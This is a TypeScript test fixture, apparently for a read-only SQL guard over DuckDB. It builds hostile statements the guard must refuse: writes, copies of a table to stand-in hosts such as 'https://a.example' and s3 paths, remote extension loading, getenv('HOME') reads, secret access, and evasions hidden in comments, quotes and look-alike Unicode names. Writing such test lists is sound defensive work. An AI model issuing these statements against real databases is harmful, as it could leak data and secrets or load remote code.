/** A statement that the guard must refuse, and what it reaches for. */
export interface Hostile {
  kind: string;
  sql: string;
}

/** Statements that are no SELECT, by what they reach for. */
const STATEMENTS: Record<string, string> = {
  changes: `insert into customers values ('a') | update customers set id = 'a' | delete from customers | truncate customers
    drop table customers | drop schema cambium cascade | alter table customers rename to c | create table t as select 1
    create or replace view v as select 1 | create macro m(a) as a | create sequence s | create type t as enum ('a')
    merge into customers using customers c on false when not matched then insert values ('a') | comment on table customers is 'a'`,
  copies: `copy customers to 'planted.csv' | copy customers from 'planted.csv' | copy (select 1) to 'planted.parquet'
    copy customers to 'planted.json' (format json) | export database 'planted' | import database 'planted'
    copy from database books to other | copy (from customers) to '/dev/stdout' (format csv)`,
  attached: `attach 'planted.duckdb' | attach 'planted.duckdb' as other (read_only) | attach ':memory:' as other | attach if not exists 'planted.db' as o (type sqlite)
    attach or replace 'planted.duckdb' as books | detach books | use memory | use system.main`,
  extensions: `install httpfs | load httpfs | force install spatial | load 'planted.duckdb_extension' | update extensions
    install sqlite from community | install 'planted.duckdb_extension'`,
  network: `attach 'https://a.example/a.duckdb' as a | copy customers to 'https://a.example/a.csv' | copy customers to 's3://a/a.parquet'
    install httpfs from 'http://a.example' | load 'https://a.example/a.duckdb_extension'`,
  settings: `set memory_limit = '1TB' | set threads = 8 | set enable_external_access = true | set lock_configuration = false
    set global temp_directory = 'planted' | set session search_path = 'memory' | reset memory_limit | set variable a = 1 | reset variable a
    set allowed_paths = ['planted.csv'] | set secret_directory = 'planted'`,
  secrets: `create secret s (type s3) | create persistent secret s (type s3) | create or replace temporary secret s (type http)
    drop secret s | drop persistent secret if exists s`,
  pragmas: `pragma database_list | pragma show_tables | pragma memory_limit = '1TB' | pragma table_info('customers') | pragma enable_profiling
    pragma version | call duckdb_settings() | call pragma_version() | checkpoint | force checkpoint | vacuum | analyze`,
  prepared: `prepare p as select 1 | execute p | execute p(1) | deallocate p | prepare p as select * from read_text('planted.csv')`,
  temporary: `create temp table t(a int) | create temporary view v as select 1 | create temp macro m() as 1 | create local temp table t as from customers
    create or replace temp table t as select * from 'planted.csv'`,
  transactions: "begin | commit | rollback | begin transaction read only",
  looks: `explain select 1 | explain analyze select 1 | show tables | show all tables | show databases | describe customers | summarize customers
    pivot customers on id | unpivot customers on id into name n value v`,
};

/** What can't stand in FROM. */
const SOURCES: Record<string, string> = {
  files: `read_csv('planted.csv') | read_text('planted.csv') | read_blob('planted.csv') | read_json('planted.json') | read_parquet('planted.parquet')
    read_csv_auto(['planted.csv']) | parquet_metadata('planted.parquet') | sniff_csv('planted.csv') | glob('*') | read_duckdb('planted.duckdb')`,
  replaced: `'planted.csv' | "planted.parquet" | 'planted.duckdb' | 'https://a.example/a.csv' | "s3://a/a.json" | main."planted.csv"`,
  schemas: `information_schema.tables | pg_catalog.pg_class | system.main.duckdb_settings | temp.t | books.main.customers
    memory.main.customers | main.sqlite_master | nothing.customers | cambium.nothing | duckdb_tables`,
  dynamic: `query('select 1') | query_table('customers') | query_table(['customers']) | json_execute_serialized_sql('{}')
    pragma_table_info('customers') | pragma_show('customers') | test_all_types() | repeat_row(1, num_rows = 3)`,
  inside:
    "duckdb_secrets() | duckdb_settings() | duckdb_databases() | which_secret('a', 's3') | duckdb_logs() | duckdb_variables()",
};

/** What can't be called. */
const CALLS: Record<string, string> = {
  environment:
    "getenv('HOME') | \"getenv\"('HOME') | main.getenv('HOME') | system.main.getenv('HOME') | GetEnv('HOME')",
  settings:
    "current_setting('threads') | getvariable('a') | current_database() | version() | current_schemas(true)",
  dynamic:
    "json_serialize_plan('select 1') | nextval('s') | txid_current() | write_log('a') | error('a') | sleep_ms(10000)",
  names: "current_user | session_user | current_catalog | user",
};

/** Where something that stands in FROM can stand; `~` is its place. */
const AROUND_SOURCES = [
  "select * from ~",
  "from ~",
  "select c.id from customers c, ~",
  "select id from customers union all select name from ~",
  "with t as (select * from ~) select * from t",
  "select (select count(*) from ~)",
  "select id from customers where exists (from ~)",
  "select * from customers left join lateral (select * from ~) on true",
  'with "planted.csv" as (from ~) select 1',
];

/** Where a value can stand. */
const AROUND_VALUES = [
  "select ~",
  "select id from customers where ~ is not null",
  "select id from customers order by ~",
  "select list_transform([1], x -> ~)",
  "select case when true then ~ end",
  "select count(*) filter (where ~ is null) from customers",
  "select sum(1) over (partition by ~) from customers",
  "select * from unnest([~])",
  "with t as (select ~ as x) select x from t",
  "select cast(~ as varchar)",
  "select id from customers group by id, ~",
  "select ['a', ~]",
  "values (~)",
];

/** How a statement can be told otherwise, or behind another. */
const AROUND_STATEMENTS = [
  "~",
  "  ~  ;",
  "/* select 1 */ ~ -- select 1",
  "-- select 1\n~",
  "select 1; ~",
  "select 1; ; ~; select 2",
  "(~)",
  "with t as (~) select 1",
  "select * from (~)",
  "explain ~",
];

/** Texts that fit into no table: other names for the same, and what hides in comments and quotes. */
const OTHERS: Record<string, string> = {
  several:
    "select 1; select 2 | select 1;;select 2 | select 1;/**/select 2 | from customers; from customers | select ';'; select 1",
  comments: `select getenv/**/('HOME') | select get/**/env('HOME'), getenv('A') | select 1 /* ' */, getenv('A') /* ' */ | select '--' , getenv('A')
    select 1 --\r, 2\n, getenv('A') | select /* /* */ getenv('A') | from/**/'planted.csv' | select 1 from/* */"planted.csv"`,
  quoted: `select "getenv" ('HOME') | select * from "information_schema"."tables" | select * from "main"."planted.csv" | select * from "READ_TEXT"('planted.csv')
    with "PLANTED.CSV" as (select 1) select * from "planted.csv" x, "planted.json" | select * from "books"."main"."customers" | select "current_user"`,
  alike: `with "É.csv" as (select 1) select * from "é.csv" | with "\u212A.csv" as (select 1) select * from "k.csv" | with "k.csv" as (select 1) select * from "\u212A.csv"
    with recursive "É.csv" as (select 1 union all select 1 from "é.csv") select 1`,
  shadowed: `select * from (with "planted.csv" as (select 1) select 1) q, 'planted.csv' | with a as (from "planted.csv"), "planted.csv" as (select 1) select * from a
    with "planted.csv" as (from "planted.csv") select 1 | select * from 'planted.csv' union all (with "planted.csv" as (select 1) select 1)
    with recursive r as (select 1 as n union all select n + 1 from r, 'planted.csv' where n < 3) select * from r`,
  versions:
    "from customers at (version => 1) | from customers at (timestamp => now()) | from customers tablesample (getenv('A'))",
  columns:
    "select columns(getenv('A')) from customers | select * replace (getenv('A') as id) from customers | select * from customers natural join (select getenv('A') as id)",
  empty: " | ; | -- nothing | /* nothing */",
};

const listed = (texts: string) => texts.split(/ \| |\n +/).map((one) => one.trim());

/**
 * Statements that are refused before anything runs, however they are asked: what they reach for, told in every place where
 * it can stand. Their files and hosts don't exist.
 */
export function hostileStatements(): Hostile[] {
  const all = [
    ...told(STATEMENTS, AROUND_STATEMENTS),
    ...told(SOURCES, AROUND_SOURCES),
    ...told(CALLS, AROUND_VALUES),
    ...told(OTHERS, ["~"]),
  ];
  return [...new Map(all.map((one) => [one.sql, one])).values()];
}

function told(table: Record<string, string>, places: string[]): Hostile[] {
  return Object.entries(table).flatMap(([kind, texts]) =>
    listed(texts).flatMap((text) => places.map((place) => ({ kind, sql: place.replace("~", () => text) }))),
  );
}
